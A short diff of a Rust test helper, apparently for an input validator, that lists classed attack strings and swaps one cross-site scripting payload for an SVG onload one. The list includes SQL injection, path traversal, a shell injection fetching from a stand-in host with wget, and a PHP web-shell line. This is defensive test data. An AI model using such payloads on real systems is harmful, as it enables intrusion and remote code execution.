@@ -40,7 +40,7 @@ fn attacks() -> Vec<(Class, Value)> {
     vec![
         (Class::Control, query("\u{1b}[2J\u{1b}]0;title\u{7}")),
         (Class::Sql, query("7' or 3 > 2 --")),
-        (Class::Html, query("<script>steal()</script>")),
+        (Class::Html, query("<svg onload=go>")),
         (Class::Path, query("../../../notes/private")),
         (Class::Shell, query("a; wget http://a.example/b")),
         (Class::Code, query("<?php system($_GET['a']); ?>")),
